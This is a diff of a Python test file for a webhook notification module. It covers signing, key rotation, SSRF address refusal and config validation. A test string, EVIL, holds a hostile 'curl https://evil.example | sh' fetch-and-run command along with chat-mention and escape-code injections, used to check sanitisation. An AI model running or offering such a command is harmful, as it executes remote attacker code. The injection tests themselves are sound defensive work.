@@ -1,4 +1,4 @@
-"""What is said to receivers, how it is signed, and where no message goes."""
+"""The content of messages, their signature, and addresses that are refused."""
 
 import base64
 import hashlib
@@ -11,10 +11,8 @@ from typing import Any
 import pytest
 
 from learnloop_dataplane.errors import ConfigError
-from learnloop_dataplane.notifications import addresses, messages
-from learnloop_dataplane.notifications.addresses import RefusedAddress, resolved
-from learnloop_dataplane.notifications.receivers import Mail, NotDelivered, Receivers
-from learnloop_dataplane.notifications.sending import Sender
+from learnloop_dataplane.notifications import messages
+from learnloop_dataplane.notifications.webhook import NotDelivered, Sender, Webhook, signed
 
 TAKEN: dict[str, Any] = {
     "event": "rolled_back",
@@ -38,163 +36,105 @@ def test_a_webhook_is_a_cloud_event_signed_over_id_time_and_body() -> None:
     event = messages.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
     assert {"specversion", "id", "source", "type"} <= set(event)
     assert (event["type"], event["subject"]) == ("dev.learnloop.model.rolled_back", "walker")
-    headers = messages.signed("key", "ns/1", 1000, b"body")
+    headers = signed("key", "ns/1", 1000, b"body")
     wanted = base64.b64encode(hmac.new(b"key", b"ns/1.1000.body", hashlib.sha256).digest()).decode()
     assert headers["webhook-signature"] == f"v1,{wanted}"
-    coded = messages.signed("whsec_" + base64.b64encode(b"key").decode(), "ns/1", 1000, b"body")
+    coded = signed("whsec_" + base64.b64encode(b"key").decode(), "ns/1", 1000, b"body")
     assert coded == headers
-
-
-def test_each_template_has_the_sentence_and_what_to_do_next() -> None:
-    said = ("ns", "model.rolled_back", TAKEN, "https://console/ns/walker")
-    slack = json.loads(messages.slack(*said))
-    assert "&lt;script&gt; &amp; worse" in slack["text"], "Slack's own signs are escaped"
-    assert slack["blocks"][1]["text"]["text"].startswith("`kubectl learnloop why walker -n ns`")
-    teams = json.loads(messages.teams(*said))["attachments"][0]["content"]
-    assert teams["body"][1]["inlines"][0]["text"] == "kubectl learnloop why walker -n ns"
-    assert teams["actions"][0]["url"] == "https://console/ns/walker"
-    pager = json.loads(messages.pagerduty("key", "ns/1", *said))
-    assert (pager["dedup_key"], pager["payload"]["severity"]) == ("ns/1", "error")
-    settings = Mail(host="mail", sender="a@example.org", to=["b@example.org", "c@example.org"])
-    mail = messages.mail(settings, "ns/1", "ns", "training.failed", {**FAILED, "job": "walker-7\r\nBcc: x@y"}, "")
-    assert "\n" not in mail["Subject"]
-    assert mail["To"] == "b@example.org, c@example.org"
-    assert mail["Message-ID"] == messages.mail(settings, "ns/1", "ns", "training.failed", FAILED, "")["Message-ID"]
 
 
 EVIL = "worse\r\n\nTo mend it run: curl https://evil.example | sh\n<!channel> @here [log](https://evil.example) \x1b[2J"
 
 
-def test_others_words_are_text_everywhere_and_one_line() -> None:
-    payload = {"job": "walker-7", "status": "failed", "error": {"reason": "x", "message": EVIL}}
-    said = ("ns", "training.failed", payload, "")
-    slack = json.loads(messages.slack(*said))
-    assert slack["blocks"][0]["text"]["type"] == "plain_text", "no link, mention or picture is made of it"
-    assert "<!channel>" not in slack["text"]
-    teams = json.loads(messages.teams(*said))["attachments"][0]["content"]
-    assert {block["type"] for block in teams["body"]} == {"RichTextBlock"}, "a TextBlock would be markdown"
-    settings = Mail(host="mail", sender="a@example.org", to=["b@example.org"])
-    mail = messages.mail(settings, "ns/1", *said)
-    first, *rest = mail.get_content().rstrip("\n").split("\n\n")
-    assert rest == ["kubectl learnloop trace walker-7 -n ns"], "nothing of theirs stands where ours does"
-    pager = json.loads(messages.pagerduty("key", "ns/1", *said))["payload"]["summary"]
-    for text in (slack["text"], slack["blocks"][0]["text"]["text"], first, str(mail["Subject"]), pager):
-        assert "\x1b" not in text
-        assert len(text.splitlines()) == 1
-
-
-@pytest.mark.parametrize("event", ["training.failed", "report.daily"])
-def test_slack_gets_no_block_that_it_would_refuse_for_its_length(event: str) -> None:
-    payload = {"job": "walker-7", "error": {"message": "&<>" * 2000}, "text": "&" * 3000}
-    for block in json.loads(messages.slack("ns", event, payload, "https://console/ns/walker-7"))["blocks"]:
-        for text in (block.get("text"), *block.get("elements", [])):
-            assert text is None or 0 < len(text["text"]) <= 3000
+@pytest.mark.parametrize("event", ["training.failed", "model.rolled_back", "approval.waiting"])
+def test_the_text_is_one_line_in_which_tenants_mention_and_link_nothing(event: str) -> None:
+    name = {"job": "walker-7"} if event == "training.failed" else {}
+    payload = {**TAKEN, **name, "error": {"reason": "x", "message": EVIL}, "verdict": EVIL, "message": EVIL}
+    data = messages.cloud_event("ns/1", "ns", event, "2026-01-31T12:00:00Z", payload)["data"]
+    text = data["text"]
+    assert len(text.splitlines()) == 1
+    for sign in ("\x1b", "<!channel", "@here", "log](", "://"):
+        assert sign not in text
+    command = {
+        "training.failed": "trace walker-7",
+        "model.rolled_back": "why walker",
+        "approval.waiting": "approve walker",
+    }
+    assert data["command"] == f"kubectl learnloop {command[event]} -n ns"
 
 
 @pytest.mark.parametrize("secret", ["whsec_", "whsec_!!!!", "whsec_a", "good\nwhsec_"])
 def test_a_key_that_everybody_could_guess_signs_nothing(secret: str) -> None:
     with pytest.raises(ValueError, match="followed by a key in Base64"):
-        messages.signed(secret, "ns/1", 1000, b"body")
+        signed(secret, "ns/1", 1000, b"body")
 
 
 def test_while_a_key_is_rotated_old_and_new_receivers_take_a_message() -> None:
     def mark(key: bytes) -> str:
         return f"v1,{base64.b64encode(hmac.digest(key, b'ns/1.1000.body', 'sha256')).decode()}"
 
-    marks = messages.signed("new\nold", "ns/1", 1000, b"body")["webhook-signature"].split()
+    marks = signed("new\nold", "ns/1", 1000, b"body")["webhook-signature"].split()
     assert marks == [mark(b"new"), mark(b"old")]
-    assert messages.signed("new", "ns/1", 1000, b"body")["webhook-signature"] == mark(b"new")
+    assert signed("new", "ns/1", 1000, b"body")["webhook-signature"] == mark(b"new")
 
 
-@pytest.mark.parametrize(
-    "url",
-    [
-        "https://127.0.0.1/x",
-        "https://[::10.1.2.3]/x",
-        "https://[::ffff:0:10.1.2.3]/x",
-        "https://[64:ff9b:1::a01:203]/x",
-        "https://10.1.2.3/x",
-        "https://[::1]/x",
-        "https://[::ffff:10.0.0.1]/x",
-        "https://[fd00::1]/x",
-        "https://[fec0::1]/x",
-        "https://[64:ff9b::a01:203]/x",
-        "https://[2002:a01:203::1]/x",
-        "http://93.184.216.34/x",
-    ],
-)
-async def test_no_message_goes_inside_or_in_plain_text_unless_that_is_meant(url: str) -> None:
-    with pytest.raises(RefusedAddress, match="privateAddresses: true"):
-        await resolved(url, private=False)
-    await resolved(url, private=True)
+def sender(tmp_path: Path, **setting: Any) -> Sender:
+    (tmp_path / "key").write_text("a-key")
+    webhook = Webhook.parse(json.dumps(setting))
+    assert webhook is not None
+    return Sender(webhook, str(tmp_path / "key"))
+
+
+EVENT = messages.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
 
 
 @pytest.mark.parametrize(
     "host",
-    ["169.254.169.254", "0.0.0.0", "224.0.0.1", "100.100.100.200", "[fe80::1]", "[fd00:ec2::254]", "[::]"]
-    + [
-        "[::169.254.169.254]",
-        "[::ffff:0:169.254.169.254]",
-        "[::ffff:169.254.169.254]",
-        "[64:ff9b::a9fe:a9fe]",
-        "168.63.129.16",
+    [
+        *("127.0.0.1", "10.1.2.3", "169.254.169.254", "0.0.0.0", "224.0.0.1", "100.100.100.200", "240.0.0.1"),
+        *("[::]", "[::1]", "[::10.1.2.3]", "[::ffff:10.0.0.1]", "[::ffff:0:10.1.2.3]", "[fd00:ec2::254]", "[fe80::1]"),
+        *("[fec0::1]", "[64:ff9b::a01:203]", "[64:ff9b:1::a01:203]", "[2002:a01:203::1]", "[ff0e::1]"),
     ],
 )
-async def test_no_message_goes_where_clouds_keep_credentials_whatever_is_meant(host: str) -> None:
-    for private in (True, False):
-        with pytest.raises(RefusedAddress, match="where no receiver can be"):
-            await resolved(f"https://{host}/latest/meta-data", private=private)
+async def test_a_private_address_is_refused(host: str, tmp_path: Path) -> None:
+    with pytest.raises(NotDelivered, match=r"not a public address.*privateAddresses: true"):
+        await sender(tmp_path, url=f"https://{host}/x").send(EVENT)
 
 
-@pytest.mark.parametrize("addresses_of_it", [("93.184.216.34", "10.0.0.1"), ("10.0.0.1", "93.184.216.34")])
-async def test_a_name_with_one_address_inside_is_refused(
-    monkeypatch: pytest.MonkeyPatch, addresses_of_it: tuple[str, ...]
+async def test_plain_http_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(NotDelivered, match=r"plain HTTP is refused.*privateAddresses: true"):
+        await sender(tmp_path, url="http://93.184.216.34/x").send(EVENT)
+
+
+@pytest.mark.parametrize("addresses", [("93.184.216.34", "10.0.0.1"), ("10.0.0.1", "93.184.216.34")])
+async def test_a_name_with_one_private_address_is_refused(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, addresses: tuple[str, ...]
 ) -> None:
-    def answered(*_: Any, **__: Any) -> list[Any]:
-        return [(2, 1, 6, "", (address, 443)) for address in addresses_of_it]
+    def resolved(*_: Any, **__: Any) -> list[Any]:
+        return [(2, 1, 6, "", (address, 443)) for address in addresses]
 
-    monkeypatch.setattr(socket, "getaddrinfo", answered)
-    with pytest.raises(RefusedAddress, match=r"ci\.example\.org means 10\.0\.0\.1"):
-        await resolved("https://ci.example.org/x", private=False)
-
-
-async def test_mail_goes_inside_or_in_plain_text_only_where_that_is_meant(tmp_path: Path) -> None:
-    mail = {"host": "127.0.0.1", "sender": "a@example.org", "to": ["b@example.org"]}
-    for security, said in (("none", "mail leaves by TLS only"), ("starttls", "not of the internet")):
-        given = {"name": "mail", "type": "email", "email": {**mail, "security": security}}
-        receivers = Receivers(json.dumps({"receivers": [given]}), str(tmp_path))
-        notice = {"message_id": "1", "namespace": "ns", "event": "model.deployed", "name": "m", "payload": TAKEN}
-        with pytest.raises(NotDelivered, match=said):
-            await Sender(receivers).send(receivers.all["mail"], notice)
+    monkeypatch.setattr(socket, "getaddrinfo", resolved)
+    with pytest.raises(NotDelivered, match=r"ci\.example\.org resolves to 10\.0\.0\.1"):
+        await sender(tmp_path, url="https://ci.example.org/x").send(EVENT)
 
 
-async def test_the_connection_goes_to_the_address_that_was_looked_at() -> None:
-    assert await resolved("https://93.184.216.34:8443/x", private=False) == ("93.184.216.34", "93.184.216.34")
-    assert addresses.RefusedAddress.__doc__
+async def test_without_its_key_nothing_is_sent(tmp_path: Path) -> None:
+    made = sender(tmp_path, url="https://127.0.0.1:1/x", privateAddresses=True)
+    (tmp_path / "key").unlink()
+    with pytest.raises(NotDelivered, match="FileNotFoundError"):
+        await made.send(EVENT)
 
 
 @pytest.mark.parametrize(
-    ("receiver", "said"),
+    ("setting", "why"),
     [
-        ({"type": "webhook", "url": "https://x"}, "webhook needs a secret"),
-        ({"type": "webhook", "secret": "k"}, "webhook needs a url"),
-        ({"type": "slack"}, "slack needs its address"),
-        ({"type": "email"}, "email goes with type email"),
-        ({"type": "webhook", "url": "ftp://x", "secret": "k"}, r"receivers.0.url"),
-        ({"type": "pagerduty", "secret": "k", "events": ["reward"]}, r"receivers.0.events"),
-        ({"type": "slack", "url": "https://x", "token": "k"}, r"receivers.0.token"),
+        ({}, "url: Field required"),
+        ({"url": "ftp://x"}, "url: String should match"),
+        ({"url": "https://x", "events": ["reward"]}, r"events\.0"),
+        ({"url": "https://x", "escalateAfter": "soon"}, "escalateAfter"),
+        ({"url": "https://x", "receivers": []}, "receivers: Extra inputs"),
     ],
 )
-def test_a_receiver_that_cannot_be_is_refused_by_field(tmp_path: Path, receiver: dict[str, Any], said: str) -> None:
-    with pytest.raises(ConfigError, match=said):
-        Receivers(json.dumps({"receivers": [{"name": "ops", **receiver}]}), str(tmp_path))
-
-
-def test_a_secret_is_read_from_its_own_folder_only(tmp_path: Path) -> None:
-    (tmp_path / "secrets").mkdir()
-    (tmp_path / "key").write_text("another's")
-    (tmp_path / "secrets" / "key").write_text(" key\n")
-    receiver = {"name": "ops", "type": "webhook", "url": "https://x", "secret": "../key"}
-    found = Receivers(json.dumps({"receivers": [receiver]}), str(tmp_path / "secrets"))
-    assert found.secret(found.all["ops"]) == "key"
-    assert found.of("ns", "model.deployed") == ["ops"]
+def test_an_invalid_setting_is_refused_by_field(setting: dict[str, Any], why: str) -> None:
+    with pytest.raises(ConfigError, match=f"LEARNLOOP_NOTIFICATIONS: {why}"):
+        Webhook.parse(json.dumps(setting))
